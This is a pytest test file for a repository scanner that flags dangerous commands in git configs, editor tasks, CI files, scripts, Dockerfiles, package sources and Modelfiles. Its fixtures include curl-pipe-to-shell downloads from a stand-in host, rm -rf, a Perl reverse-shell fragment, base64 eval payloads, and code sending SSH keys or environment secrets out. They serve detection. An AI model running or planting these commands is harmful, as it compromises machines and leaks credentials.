"""Settings with commands, programs in other languages, package sources, Modelfiles: one by one."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelscan.budget import Budget
from modelscan.formats import foreign_code, package_sources
from modelscan.formats import readers as table
from modelscan.formats import settings as settings_room
from modelscan.formats.card_commands import CardCommandsReader
from modelscan.formats.foreign_code import ForeignCodeReader, PageReader
from modelscan.formats.modelfile import ModelfileReader
from modelscan.formats.package_sources import PackageSourcesReader, of_command
from modelscan.formats.reader import Glimpse
from modelscan.formats.scripts import ScriptReader
from modelscan.formats.settings import SettingsReader
from modelscan.vocabulary.artifact import Artifact, BytesArtifact
from modelscan.vocabulary.coverage import Coverage
from modelscan.vocabulary.fact import Fact, RepositoryRequirement, RepositoryScript

ROOMS = (
    SettingsReader(), ForeignCodeReader(), PageReader(), PackageSourcesReader(), CardCommandsReader(),
    ModelfileReader(), ScriptReader(),
)  # fmt: skip


def _read(name: str, text: str | bytes) -> list[Any]:
    artifact = BytesArtifact(name, text if isinstance(text, bytes) else text.encode())
    chosen = [one for one in ROOMS if one.recognises(Glimpse(artifact))]
    return [item for one in chosen for item in one.read(artifact, Budget())]


def _kinds(name: str, text: str) -> list[tuple[str, int | None]]:
    facts = [fact for fact in _read(name, text) if isinstance(fact, RepositoryScript)]
    return [(fact.kind, fact.location.line) for fact in facts if fact.kind != "present"]


def test_the_table_asks_about_the_names_that_the_rooms_know() -> None:
    assert frozenset(table._SETTINGS) == settings_room.NAMES
    assert frozenset(table._SETTING_FILES) == settings_room.EXTENSIONS
    assert frozenset(table._FOREIGN) == foreign_code.EXTENSIONS
    assert frozenset(table._PAGES) == foreign_code.PAGES
    assert frozenset(table._FOREIGN_NAMES) == foreign_code.NAMES
    assert frozenset(table._PACKAGES) == package_sources.NAMES


@pytest.mark.parametrize(
    ("name", "text", "kinds"),
    [
        (".git/config", '[core] fsmonitor = "sh -c id"\n', [("runs-by-itself", 1)]),
        (".git/config", "[core]\n\tfsmonitor = true\n", []),
        (".git/config", '[filter "x"]\n\tsmudge = ./x.sh\n', [("runs-by-itself", 2)]),
        (".git/config", '[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f\n', []),
        (".git/config", "[core]\n\tsshCommand = ssh -i ~/.ssh/key\n", []),
        (".git/config", "[core]\n\tsshCommand = ssh -o ProxyCommand=id\n", [("runs-by-itself", 2)]),
        (".git/config", "fsmonitor = sh\n", []),
        (".git/config", '[remote "o"]\n\turl = ext::sh -c id\n', [("runs-by-itself", 2)]),
        (".gitmodules", '[submodule "a"]\n\turl = https://github.com/a/b\n\tupdate = rebase\n', []),
        (".gitmodules", '[submodule "a"]\n\tupdate = !id\n', [("runs-by-itself", 2)]),
        (".vscode/tasks.json", '{"tasks": [{"command": "make"}]}', []),
        (
            ".vscode/tasks.json",
            '{"tasks": [{"command": "node", "args": ["public/a.woff2"],\n"runOptions": {"runOn": "folderOpen"}}]}',
            [("runs-by-itself", 2)],
        ),
        ("ci.yml", "steps:\n  - run: |\n      curl -o i https://x.test/i\n      sh i\n", [("runs-download", 4)]),
        ("ci.yml", "steps:\n  # curl https://x.test | sh\n  - run: make\n", []),
        ("x.js", 'eval(atob("aWQ="))', [("encoded-payload", 1)]),
        ("x.js", 'const {exec} = require("child_process");\nexec("curl https://x.test|sh")', [("runs-download", 2)]),
        ("x.js", "execSync(`curl https://x.test/${b} | sh`);", [("runs-download", 1)]),
        ("x.js", 'exec(a); show("Install it with curl https://x.test/i | sh")', []),
        ("x.js", 'run("curl https://x.test/i | sh")', []),
        ("a.yml", "blocked:\n  - curl https://x.test/i | sh\n  - rm -rf /\n", []),
        ("a.yml", "steps:\n- name: a\n  run: rm -rf ~\n", [("harms-machine", 3)]),
        ("a.yml", "a:\n  run: make\nb:\n  text: rm -rf ~\n", []),
        ("run.sh", 'echo "Run: curl https://x.test/i | sh"', []),
        ("run.sh", 'echo "curl https://x.test/i | sh" | sh', [("runs-download", 1)]),
        ("run.sh", "command -v curl >/dev/null 2>&1 && null", []),
        ("run.sh", "curl -fsS | sh", []),
        ("x.js", 'const h = require("https");\neval(body)', [("runs-download", 2)]),
        ("x.js", 'const h = require("https");\nexec(argv.cmd)', []),
        ("x.js", 'fetch("/a", {body: process.env })', [("sends-secrets", 1)]),
        ("x.js", "const a = {...process.env, A: 1}; fetch(a)", []),
        ("x.js", 'fs.readFile("/home/user/.ssh/id_rsa"); fetch("/a")', [("sends-secrets", 1)]),
        ("x.hta.html", 'new ActiveXObject("WScript.Shell").Run("x")', [("runs-by-itself", 1)]),
        ("x.lua", "x = loadstring(unpack(y))", [("encoded-payload", 1)]),
        ("x.lua", "syn keyword f loadstring unpack", []),
        ("x.r", 'source("https://x.test/a.R")', [("runs-download", 1)]),
        ("x.r", 'source("a.R")', []),
        ("x.pl", 'open(STDIN, ">&S"); socket(S, 1); exec("/bin/sh -i");', [("remote-shell", 1)]),
        ("run.sh", "python3 -c 'import os,base64;exec(base64.b64decode(x))'", [("encoded-payload", 1)]),
        ("run.sh", "python3 - <<'EOF'\nimport os\nos.kill(-1, 9)\nEOF\n", [("harms-machine", 1)]),
        ("run.sh", 'python -c "import torch; print(torch.__version__)"', []),
        ("run.sh", 'python -c "print(1', []),
        ("run.sh", 'python -c "print(1"', []),
        ("run.sh", "URL=https://ollama.com/i\ncurl $URL -o i\nsh i\n", [("runs-download", 3)]),
        ("Dockerfile", "RUN <<EOF\ncurl https://x.test | sh\nEOF\nCOPY a b\n", [("runs-download", 2)]),
        ("notes.md", "Run `curl https://x.test/i | sh`.", [("runs-download", 1)]),
        ("notes.md", "Ask curl for help.", []),
    ],
)  # fmt: skip
def test_commands_in_settings_and_other_languages(
    name: str, text: str, kinds: list[tuple[str, int | None]]
) -> None:
    assert _kinds(name, text) == kinds


def test_an_address_in_a_variable_is_known_by_the_variable() -> None:
    def known(text: str) -> list[bool]:
        return [each.known_place for each in _read("a.sh", text) if each.kind == "runs-download"]

    assert known("URL=https://ollama.com/i\ncurl $URL -o i\nsh i\n") == [True]
    assert known("URL=https://x.test/i\ncurl $URL -o i\nsh i\n") == [False]
    twice = "URL=https://ollama.com/i\nURL=https://x.test/i\ncurl $URL -o i\nsh i\n"
    assert known(twice) == [False]


def test_many_attacks_in_one_file_are_told_a_bounded_number_of_times() -> None:
    assert len(_kinds("x.js", "eval(atob(a));\n" * 500)) == 20
    assert len(_kinds("ci.yml", "- run: curl https://x.test/i | sh\n" * 500)) == 50


def _lines(name: str, text: str) -> list[tuple[str, str, int | None]]:
    facts = [fact for fact in _read(name, text) if isinstance(fact, RepositoryRequirement)]
    return [(fact.kind, fact.line, fact.location.line) for fact in facts]


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("environment.yml", "channels:\n  - https://c.test/x\n  - pytorch\n", [("other-index", "https://c.test/x", 2)]),
        ("environment.yml", "channels: [https://conda.anaconda.org/x]\n", []),
        ("env.yaml", "dependencies:\n - pip:\n   - https://x.test/a.zip  # c\n", [("address", "https://x.test/a.zip", 3)]),
        ("env.yaml", "- pip:\n   - -i http://x.test/simple\n", [("not-encrypted", "-i http://x.test/simple", 2)]),
        ("data.yaml", "files:\n  - https://x.test/data.json\n", []),
        ("data.yaml", "a: b @ c\n", []),
        ("pip.conf", "[global]\nindex-url = https://u:p@x.test/simple\n", [("other-index", "https://…@x.test/simple", 2)]),
        ("pip.conf", "[global]\n; index-url = https://x.test\nextra-index-url =\n  https://x.test/a\n", [("other-index", "https://x.test/a", 4)]),
        ("Pipfile", '[[source]]\nurl = "https://pypi.org/simple"\nname = "p"\n', []),
        ("pyproject.toml", '[project.urls]\nurl = "https://x.test"\n', []),
        ("pyproject.toml", '[[tool.poetry.source]]\nurl = "https://x.test/s"\n', [("other-index", "https://x.test/s", 2)]),
        ("pyproject.toml", '[tool.uv.sources]\na = { git = "https://x.test/a" }\n', [("address", "https://x.test/a", 2)]),
        (".npmrc", "@a:registry=https://x.test/\n", [("other-index", "https://x.test/", 1)]),
        ("package.json", '{"dependencies": {"a": "git://x.test/a"}}', [("not-encrypted", "a@git://x.test/a", 1)]),
        ("package.json", '{"dependencies": {"a": "^1.0"}, "homepage": "https://x.test"}', []),
        ("package.json", "https://", []),
        ("package.json", '["https://x.test"]', []),
        ("setup.py", 'setup(install_requires=["a @ https://x.test/a.whl"])', [("address", "https://x.test/a.whl", 1)]),
        ("setup.py", 'setup(url="https://x.test")', []),
        ("run.sh", "pip install -i https://x.test/simple a", [("other-index", "-i https://x.test/simple a", 1)]),
        ("run.sh", "pip install git+https://github.com/a/b", []),
        ("run.sh", "pip install a # https://x.test", []),
    ],
)  # fmt: skip
def test_places_that_packages_come_from(
    name: str, text: str, expected: list[tuple[str, str, int | None]]
) -> None:
    assert _lines(name, text) == expected


def test_long_lists_of_packages_are_told_a_bounded_number_of_times() -> None:
    assert len(_lines("env.yml", "- pip:\n" + "   - git+https://x.test/a\n" * 99)) == 50
    assert of_command("apt install x") is None
    assert of_command("pip install --index-url https://download.pytorch.org/whl/cpu torch") is None


def _members(text: str | bytes, name: str = "Modelfile") -> list[tuple[str | None, bytes]]:
    return [
        (item.member, item.read_at(0, item.size))
        for item in _read(name, text)
        if not isinstance(item, Fact | Coverage)
    ]


def test_a_modelfile_hands_on_its_templates_and_texts() -> None:
    text = (
        'FROM ./x.gguf\nTEMPLATE """{{ .Prompt }}\n{{ .Response }}"""\nSYSTEM "be kind"\n'
        "message user hello\nMESSAGE assistant hi\nPARAMETER stop x\nsystem last"
    )
    assert _members(text) == [
        ("template.gotmpl", b"{{ .Prompt }}\n{{ .Response }}"),
        ("system.prompt", b"be kind"),
        ("message.prompt", b"hello"),
        ("2.message.prompt", b"hi"),
        ("2.system.prompt", b"last"),
    ]
    assert _members('FROM x\nSYSTEM """never closed') == [("system.prompt", b"never closed")]
    assert _members('FROM x\nSYSTEM "never closed') == [("system.prompt", b"never closed")]
    assert _members("FROM x", "qwen.modelfile") == []
    assert _members("no instruction", "Modelfile") == []


def test_a_modelfile_that_is_too_long_is_a_gap() -> None:
    (gap,) = _read("Modelfile.q4", "FROM x\n" + "#" * (1 << 20))
    assert isinstance(gap, Coverage)
    assert (gap.status, gap.needed) == ("truncated", True)
    many = "FROM x\n" + "SYSTEM a\n" * 500
    assert len(_members(many)) == 100


_NAMES = ["config", ".gitmodules", "tasks.json", "ci.yml", "x.js", "pip.conf", "package.json",
          "Modelfile", "README.md", "setup.py", "run.sh", "Dockerfile"]  # fmt: skip


@given(st.sampled_from(_NAMES), st.text(max_size=120) | st.binary(max_size=120))
@settings(max_examples=200, deadline=None)
def test_any_text_is_stated(name: str, text: str | bytes) -> None:
    data = text.encode("utf-8", "surrogatepass") if isinstance(text, str) else text
    assert all(
        isinstance(item, Fact | Coverage | Artifact) for item in _read(name, b"FROM x\n" + data)
    )
